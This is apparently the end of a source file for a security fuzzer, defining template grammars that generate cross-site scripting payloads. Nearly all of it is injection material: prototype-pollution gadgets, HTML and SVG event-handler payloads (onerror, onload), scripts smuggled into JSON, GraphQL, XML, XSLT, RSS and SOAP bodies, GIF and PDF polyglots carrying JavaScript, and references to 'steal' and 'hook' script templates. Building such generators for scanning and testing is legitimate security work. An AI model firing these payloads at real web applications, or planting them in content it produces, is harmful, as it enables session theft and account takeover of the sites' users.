xss/pollution [key,value] 2: ‹¦?¦#¦&›__proto__[‹xs.gadget›]=‹xs.tiny›
  __proto__[‹xs.gadget›]=‹:q:'›‹xs.uri›
  __proto__.‹xs.gadget›=‹xs.tiny›
  __proto__[‹xs.gadget›]=data:,‹xs.base›(‹n›)//
  __proto__[‹xs.gadget›][]='"onerror%3d‹xs.base›(‹n›)
  constructor[prototype][‹xs.gadget›]=‹xs.tiny›
  constructor.prototype.‹xs.gadget›=‹:q:'›‹xs.call›//
  {"__proto__":{"‹xs.gadget›":"‹json!‹xs.basic››"}}
  {"constructor":{"prototype":{"‹xs.gadget›":["‹json!‹xs.basic››"]}}}
  __proto__[‹attrs¦props¦data›][‹src¦on‹xs.ev›¦0›][‹value¦name›]=‹xs.base›(‹n›)
  ‹~1-4›[__proto__][‹xs.gadget›]=javascript:‹xs.base›(‹n›)
  __pro__proto__to__[‹xs.gadget›]=data:,‹xs.base›(‹n›);

xs.words: ‹noun› ‹noun›
  ‹^1›‹~2-6› ‹noun›, ‹noun›
  ‹noun› ‹n› ‹noun›.
  Hello ‹^1›‹~2-7›,
  ‹Thanks for the¦Please see the¦My new¦About the¦I like this¦Great› ‹noun›!
xss/inner 7: 2× ‹xs.words› ‹xs.html› ‹xs.words›
  2× ‹xs.words›‹xs.basic›‹word›
  ‹xs.words› ‹xs.closer›‹xs.html›
  2× <p>‹xs.words›</p>‹xs.html›<p>‹word›</p>
  <div‹¦ class="‹~3-8›"›><p>‹xs.words› ‹xs.html›</p></div>
  <p>Dear ‹^1›‹~3-6›,</p><p>‹xs.words›</p><a href="‹:q:'›‹xs.jsuri›">‹word›</a>
  <b>‹word›</b><i>‹word›</i>‹xs.basic›<br/>‹xs.words›
  <table><tr><td>‹word›</td><td>‹xs.html›</td></tr></table>
  <ul><li>‹word›</li><li>‹xs.html›</li><li>‹n›</li></ul>
  <html><head><title>‹word›</title></head><body>‹xs.html›</body></html>
  <html><head><script>‹:q:"›‹xs.js›</script></head><body><h1>‹word›</h1></body></html>
  <blockquote>‹xs.words›</blockquote>⏎⏎‹xs.html›
  <img src="https://‹host›/‹noun›.png" alt="‹word›" ‹:ev:‹load¦mouseover¦error››‹xs.h›>
  <p ‹:ev:‹xs.evhover››‹xs.h›>‹xs.words›</p>
  <span style="color:red" ‹:ev:‹xs.ev››‹xs.h›>‹xs.words›</span>
  <a href="https://‹host›/‹noun›" target="_blank" ‹:ev:‹xs.evhover››‹xs.h›>‹xs.words›</a>
  <h2>‹word›</h2>⏎<p>‹xs.words›</p>⏎<script>⏎  ‹:q:'›‹xs.js›⏎</script>⏎
  ‹word›</‹title¦textarea¦h1¦a›>‹xs.html›
  2× {"‹col›":"‹json!‹xs.html››","‹~2-6›":‹n›}
  [{"‹~2-6›":"‹word›"},{"‹col›":"‹word›‹json!‹xs.closer›‹xs.basic››"}]
  {"‹col›":"‹word›\"};‹:q:'›‹xs.call›//"}
  {"ops":[{"insert":"‹xs.words›\n"},{"insert":{"‹image¦video¦formula›":"‹:q:'›‹xs.uri›"}}]}
  {"blocks":[{"type":"‹paragraph¦raw¦image›","data":{"‹text¦html¦url›":"‹json!‹xs.basic››"}}]}
  {"type":"doc","content":[{"type":"text","marks":[{"type":"link","attrs":{"href":"‹:q:'›‹xs.jsuri›"}}],"text":"‹word›"}]}
  2× ‹scheme›://‹host›/‹~2-6›?‹~1-5›=‹percent!‹xs.html››
  ‹scheme›://‹host›/‹~2-6›?‹~1-5›=‹xs.basic›
  ‹scheme›://‹host›/‹¦‹~2-6›/›#‹xs.basic›
  ‹scheme›://‹host›/‹~2-6›?‹~1-4›=‹n›&‹~1-4›=‹percent!‹xs.closer›‹xs.basic››
  /‹~2-8›?‹~1-5›=‹percent!‹xs.basic››&‹~1-4›=‹n›
  ‹~2-7›@‹host›‹xs.basic›
  "‹xs.basic›"@‹host›
  ‹~2-6›+(‹xs.basic›)@‹host›
  ‹~2-6›@‹host›'"><svg/onload=‹xs.base›(‹n›)>
  +‹#1-99›‹#1000000-999999999›;phone-context=‹xs.basic›
  ‹noun›‹"¦'¦›><img src=x onerror=‹xs.base›(‹n›)>.‹jpg¦png¦pdf›
  "><svg onload=‹xs.base›(‹n›)>.‹svg¦png¦gif¦txt›
  <img src=x onerror=‹xs.base›(document.domain)>.‹jpg¦png¦docx›
  ‹noun›,‹xs.basic›,‹n›
  ‹n›;‹xs.basic›;‹noun›
  <‹=t:‹noun››>‹xml!‹xs.basic››</‹=t›>
  <‹=t:‹noun››><![CDATA[‹xs.html›]]></‹=t›>
  ‹~2-6›=‹word›&‹~2-6›=‹percent!‹xs.basic››
  BEGIN:VCARD⏎FN:‹xs.basic›⏎END:VCARD
  BEGIN:VEVENT⏎SUMMARY:‹word›‹xs.basic›⏎URL:‹:q:'›‹xs.jsuri›⏎END:VEVENT
  WIFI:S:‹xs.tiny›;T:WPA;P:‹rnd›;;
  ‹word›⏎⏎‹xs.html›⏎⏎‹xs.words›
  /* ‹noun› */ </style>‹xs.html›
  // ‹noun›⏎‹:q:'›‹xs.js›⏎</script>‹xs.basic›
  -‹n›"/>‹xs.html›
  %‹noun›%"><script>‹xs.base›(‹n›)</script>
xss/json [body-json] 2: {"‹col›":"‹json!‹xs.html››"}
  {"‹~2-7›":"‹word›","‹col›":"‹json!‹xs.closer›‹xs.html››","‹~2-6›":‹n›}
  {"‹~2-7›":{"‹~2-6›":["‹word›","‹json!‹xs.html››"]}}
  {"‹message¦comment¦content¦body¦html¦description¦bio¦title›":"<p>‹word›</p>‹json!‹xs.html››"}
  {"‹url¦link¦href¦website¦avatar¦redirect›":"‹:q:'›‹xs.jsuri›"}
  {"jsonrpc":"2.0","method":"‹~2-6›.‹~2-6›","params":["‹json!‹xs.basic››"],"id":‹n›}
  {"‹json!‹xs.basic››":‹n›}
  {"query":"mutation{‹~3-8›(‹~2-6›:\"‹json!‹json!‹xs.basic›››\"){id}}"}
  {"‹~2-6›":"\u003c‹script\u003e‹xs.base›(‹n›)\u003c/script¦img src=x onerror=‹xs.base›(‹n›)›\u003e"}
  ["‹json!‹xs.html››"]
  "‹json!‹xs.html››"
xs.xns = xmlns="http://www.w3.org/1999/xhtml" xmlns='http://www.w3.org/1999/xhtml' xmlns:xhtml="http://www.w3.org/1999/xhtml"
xs.xdoc: 2× <‹=r:‹~2-7››><‹=t:‹xs.tag›› ‹xs.xns› ‹:ev:‹load¦error¦click››on‹=ev›="‹:q:'›‹xs.call›"/></‹=r›>
  <‹=r:‹~2-7››><‹=x:‹~1-5››:script xmlns:‹=x›="http://www.w3.org/1999/xhtml">‹:q:'›‹xs.call›</‹=x›:script></‹=r›>
  <html xmlns="http://www.w3.org/1999/xhtml"><script>‹:q:'›‹xs.call›</script></html>
  <‹=r:‹~2-7››><![CDATA[<]]>script<![CDATA[>]]>‹xs.base›(‹n›)<![CDATA[<]]>/script<![CDATA[>]]></‹=r›>
  <‹=r:‹noun››><‹=t:‹col››>‹xml!‹xs.html››</‹=t›></‹=r›>
  <‹=r:‹noun››><‹=t:‹col››><![CDATA[‹xs.html›]]></‹=t›></‹=r›>
  <?xml-stylesheet type="text/‹xsl¦xml›" href="‹:q:'›‹‹xs.uri›¦‹xs.url››"?><‹=r:‹~2-6››/>
  <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script>‹:q:'›‹xs.call›</script></xsl:template></xsl:stylesheet>
  <rss version="2.0"><channel><title>‹xml!‹xs.basic››</title><item><link>‹:q:´›‹xml!‹xs.jsuri››</link><description><![CDATA[‹xs.html›]]></description></item></channel></rss>
  <feed xmlns="http://www.w3.org/2005/Atom"><entry><title type="html">‹xml!‹xs.basic››</title><link href="‹:q:'›‹xs.jsuri›"/></entry></feed>
  <soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><‹=t:‹~2-7››>‹xml!‹xs.html››</‹=t›></soap:Body></soap:Envelope>
  <math xmlns="http://www.w3.org/1998/Math/MathML" xlink:href="‹:q:'›‹xs.jsuri›" xmlns:xlink="http://www.w3.org/1999/xlink">‹~1-4›</math>
  <bindings xmlns="http://www.mozilla.org/xbl"><binding id="‹~1-4›"><implementation><constructor><![CDATA[‹:q:'›‹xs.call›]]></constructor></implementation></binding></bindings>
  <public:component><public:attach event="onload" for="document" onevent="‹:q:'›‹xs.call›"/></public:component>
  <x:div xmlns:x="http://www.w3.org/1999/xhtml"><x:iframe src="‹:q:'›‹xs.jsuri›"/></x:div>
xss/xml [body-xml,value,file] 2: ‹¦<?xml version="1.0"‹ encoding="UTF-8"¦ standalone="yes"¦›?>‹⏎¦››‹xs.xdoc›
xs.svgdoc: <script‹ type="‹text/javascript¦application/ecmascript¦text/ecmascript›"¦›>‹:q:'›‹xs.js›</script>
  <script>⏎<![CDATA[⏎‹:q:'›‹xs.js›⏎]]>⏎</script>
  <script>//<![CDATA[⏎‹:q:"›‹xs.js›//]]></script>
  <script ‹xlink:href¦href›="‹‹xs.url›¦data:text/javascript,‹xs.base›(‹n›)›"/>
  <a xlink:href="‹:q:'›‹xs.jsuri›"><rect width="‹#9-999›" height="‹#9-999›"/></a>
  <foreignObject width="‹#9-999›" height="‹#9-999›"><‹body¦iframe src="‹:q:'›‹xs.jsuri›"¦img src="x" onerror="‹xs.base›(‹n›)"› xmlns="http://www.w3.org/1999/xhtml"‹ onload="‹xs.base›(‹n›)"/>¦/>›</foreignObject>
  <animate on‹begin¦end¦repeat›="‹:q:'›‹xs.call›" attributeName="‹x¦r¦fill¦opacity›" dur="‹#1-9›s"/>
  <set attributeName="on‹xs.ev›" to="‹:q:'›‹xs.call›"/>
  <image href="‹~1-4›" onerror="‹:q:'›‹xs.call›"/>
  <use xlink:href="‹:q:'›‹xs.datauri›#‹~1›"/>
  <g onload="‹:q:'›‹xs.js›"/>
  <circle r="‹#9-99›" on‹xs.evhover›="‹:q:'›‹xs.call›"/>
  <polygon points="0,0 0,‹#9-99› ‹#9-99›,0" fill="#‹%6›"/><script>‹:q:'›‹xs.steal›</script>
  <style>@import url("‹xs.url›");</style><script>‹:q:'›‹xs.hook›</script>
  <metadata><html:script xmlns:html="http://www.w3.org/1999/xhtml">‹:q:'›‹xs.call›</html:script></metadata>
  <handler type="text/javascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">‹:q:'›‹xs.call›</handler>
xss/svg-file [file] 3: 3× ‹¦<?xml version="1.0"‹ encoding="UTF-8"¦› standalone="no"?>⏎¦<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">⏎›<svg ‹version="1.1" ¦baseProfile="full" ¦width="‹#9-900›" height="‹#9-900›" ¦viewBox="0 0 ‹#9-99› ‹#9-99›" ¦›xmlns="http://www.w3.org/2000/svg"‹ xmlns:xlink="http://www.w3.org/1999/xlink"¦›>‹⏎¦›‹<rect width="‹#9-900›" height="‹#9-900›" style="fill:rgb(‹#0-255›,‹#0-255›,‹#0-255›)"/>⏎¦<path d="M‹#0-99› ‹#0-99›L‹#0-99› ‹#0-99›z"/>¦<title>‹word›</title>¦›‹xs.svgdoc›‹⏎¦›</svg>
  <svg xmlns="http://www.w3.org/2000/svg" on‹load¦click¦mouseover›="‹:q:'›‹xs.js›"‹/>¦></svg>¦><circle r="‹#9-99›"/></svg>›
  ‹<!-- ‹word› -->⏎¦›<svg onload="‹:q:'›‹xs.call›" xmlns="http://www.w3.org/2000/svg"><‹defs¦g¦text x="‹#0-9›" y="‹#9-99›"›>‹word›
xss/page [file] 2: <html>‹<head><title>‹word›</title></head>¦›<body>‹xs.html›</body></html>
  <!DOCTYPE html>⏎<html>⏎<body>⏎<p>‹xs.words›</p>⏎‹xs.html›⏎</body>⏎</html>
  <script>‹:q:'›‹xs.js›</script>
  GIF8‹7¦9›a‹/*‹*2-20›*/¦›=‹n›;‹:q:'›‹xs.js›
  GIF89a<script>‹:q:'›‹xs.call›</script>
  ‹GIF89a¦BM¦RIFF›‹*4-20›‹xs.html›
  %PDF-1.‹#3-7›⏎1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\(‹n›\))>>>>endobj
  %PDF-1.‹#3-7›⏎1 0 obj⏎<< /S /URI /URI (javascript:‹xs.base›\(‹n›\)) >>⏎endobj
  ‹word›,‹word›⏎‹n›,"‹xs.html›"
  # ‹word›⏎⏎[‹xs.text›](‹:q:'›‹xs.jsuri›)⏎
  WEBVTT⏎⏎00:00.000 --> 00:0‹#1-9›.000⏎‹xs.basic›
  BEGIN:VCALENDAR⏎SUMMARY:‹xs.basic›⏎END:VCALENDAR
  /*‹~2-6›*/‹:q:'›‹xs.js›
  ‹word›⏎‹xs.html›⏎
  ‹xs.html›
  {"‹~2-6›":"‹json!‹xs.html››"}
`

/** Cross-site scripting: the scripts, the markup that carries them, and the families that set both into contexts. */
export const XSS = XSS_SCRIPT + XSS_MARKUP + XSS_FAMILIES
